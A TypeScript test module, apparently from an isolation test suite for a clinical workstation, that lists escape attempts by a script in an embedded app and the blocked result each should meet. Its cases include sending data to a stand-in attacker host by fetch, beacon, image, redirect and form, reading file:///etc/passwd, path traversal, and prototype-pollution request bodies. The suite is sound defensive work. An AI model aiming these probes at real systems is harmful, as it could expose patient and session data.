import type { Try } from './aim.ts';

// Each function runs in the page of the app, out of reach of everything else in this module.
interface Bridge {
  getUser(): Promise<{ readonly username: string }>;
  saveDraft(name: string, text: string): Promise<void>;
  readDraft(name: string): Promise<string | null>;
}
declare const carelink: Bridge;

/** What a script in the page of a clinical app might try; all it has is its bridge and its own server. */
export const appTries: readonly Try[] = [
  // The shell
  {
    name: 'an answer of the bridge of the workstation',
    run: async ({ shell }) => {
      const init = { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' };
      return await (await fetch(`${shell}/rpc/snapshot.get`, { ...init, credentials: 'include' })).text();
    },
  },
  {
    name: 'a lock, by a call without CORS',
    run: ({ shell }) =>
      fetch(`${shell}/rpc/session.lock`, {
        method: 'POST',
        mode: 'no-cors',
        credentials: 'include',
        body: '{}',
      }),
  },
  {
    name: 'the page of the workstation',
    run: async ({ shell }) => (await fetch(shell, { credentials: 'include' })).text(),
  },
  {
    name: 'the snapshots of the workstation',
    run: ({ shell }) =>
      new Promise((resolve, reject) => {
        const source = new EventSource(`${shell}/events`, { withCredentials: true });
        source.onopen = () => resolve('opened');
        source.onerror = () => reject(new DOMException('', 'EventSourceError'));
      }),
  },
  { name: 'the document around it', run: () => window.top?.document.body.textContent },
  { name: 'the storage around it', run: () => window.top?.localStorage.length },
  { name: 'the address around it', run: () => window.top?.location.href },
  {
    name: 'the preload of the workstation',
    run: () => (window.top as unknown as Record<string, unknown>).workstation,
  },
  {
    name: 'the workstation in a frame of its own',
    run: ({ shell }) =>
      new Promise((resolve, reject) => {
        const frame = Object.assign(document.createElement('iframe'), { src: shell });
        frame.onload = () => {
          try {
            const { document: inside } = frame.contentWindow as Window;
            resolve(inside.body.textContent);
          } catch (error) {
            reject(error);
          }
        };
        document.addEventListener('securitypolicyviolation', reject, { once: true });
        document.body.append(frame);
      }),
  },
  // The token server and other hosts
  {
    name: 'an answer of the token server',
    run: async ({ server }) => (await fetch(`${server}/healthz`)).text(),
  },
  {
    name: 'a post to the attacker',
    run: ({ attacker }) => fetch(`${attacker}/post`, { method: 'POST', mode: 'no-cors', body: 'x' }),
  },
  {
    name: 'a picture of the attacker',
    run: ({ attacker }) =>
      new Promise((resolve, reject) => {
        const image = new Image();
        image.onload = resolve;
        image.onerror = () => reject(new DOMException('', 'ImageError'));
        image.src = `${attacker}/image`;
      }),
  },
  {
    name: 'a beacon to the attacker',
    run: ({ attacker }) =>
      new Promise((resolve, reject) => {
        document.addEventListener(
          'securitypolicyviolation',
          () => reject(new DOMException('', 'PolicyError')),
          {
            once: true,
          },
        );
        if (!navigator.sendBeacon(`${attacker}/beacon`, 'x')) reject(new DOMException('', 'NoBeacon'));
        setTimeout(() => resolve('sent'), 5_000);
      }),
  },
  {
    name: 'a redirect to the attacker',
    run: async () => (await fetch('/leave')).text(),
    // The gateway's own words.
    harmless: /^\{"error":"elsewhere"\}$/,
  },
  {
    name: 'a second window',
    run: ({ attacker }) => {
      if (window.open(`${attacker}/window`) === null) throw new DOMException('', 'NoWindow');
      return 'a window';
    },
  },
  {
    name: 'the top window, to lead it to the attacker',
    run: ({ attacker }) => {
      if (window.top) window.top.location.href = `${attacker}/top`;
    },
  },
  {
    name: 'the top window by a form',
    run: async ({ attacker }) => {
      const parts = { action: `${attacker}/form`, method: 'post', target: '_top' };
      const form = Object.assign(document.createElement('form'), parts);
      document.body.append(form);
      form.submit();
      await fetch('/');
      return 'still here';
    },
    harmless: /^still here$/,
  },
  { name: 'a file', run: async () => (await fetch('file:///etc/passwd')).text() },
  {
    name: 'a service worker',
    run: async () => String(await navigator.serviceWorker.register('/worker.js')),
  },
  {
    name: 'a WebSocket through its gateway',
    run: () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(location.origin.replace('http', 'ws'));
        socket.onopen = resolve;
        socket.onerror = () => reject(new DOMException('', 'SocketError'));
      }),
  },
  { name: 'the microphone', run: () => navigator.mediaDevices.getUserMedia({ audio: true }) },
  // Its gateway
  { name: 'the cookies', run: () => document.cookie, harmless: /^$/ },
  {
    name: 'a token in the answers of its own server',
    run: async () => {
      const answer = await fetch('/');
      return JSON.stringify([[...answer.headers], await answer.text()]);
    },
    harmless: /Meal plan/,
  },
  { name: 'its own request, echoed', run: () => fetch('/', { method: 'TRACE' }) },
  {
    name: 'more than the user of its own session',
    run: async () => (await fetch('/.carelink/user')).text(),
    harmless: /^\{"id":"\d+","username":/,
  },
  {
    name: 'an entry by a guessed code',
    run: async () => {
      const answer = await fetch('/.carelink/enter?code=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA');
      return String(answer.status);
    },
    harmless: /^403$/,
  },
  ...[
    '/.carelink/../../package.json',
    '/.carelink/token',
    '/.carelink/%2e%2e/user',
    '/.carelink/__proto__',
  ].map(
    (path): Try => ({
      name: `${path} of its gateway`,
      run: new Function(
        '',
        `return fetch(${JSON.stringify(path)}).then((answer) => String(answer.status))`,
      ) as Try['run'],
      // Paths that are not the gateway's own go to the app's server.
      harmless: /^(200|403|404)$/,
    }),
  ),
  // Drafts
  {
    name: 'a draft of another app',
    run: () => carelink.readDraft('note'),
    harmless: /^null$/,
  },
  {
    name: 'a draft of the workstation itself',
    run: () => carelink.readDraft('handover'),
    harmless: /^null$/,
  },
  ...[
    '{"act":"read","name":"handover","username":"USER"}',
    '{"act":"read","name":"note","app":"vitals"}',
    '{"act":"read","name":"../vitals/note"}',
    '{"act":"list"}',
    '{"act":"read","name":{"toString":"note"}}',
    '{"__proto__":{"polluted":true},"act":"read"}',
    '[]',
  ].map(
    (body): Try => ({
      name: `a draft by the call ${body}`,
      run: new Function(
        'aim',
        `const body = ${JSON.stringify(body)}.replace('USER', aim.other.username);
        const headers = { 'content-type': 'application/json' };
        return fetch('/.carelink/draft', { method: 'POST', headers, body }).then((answer) => answer.text());`,
      ) as Try['run'],
      harmless: /^\{"ok":false,"error":"invalid_input"\}$|^\{"ok":true,"text":null\}$/,
    }),
  ),
];
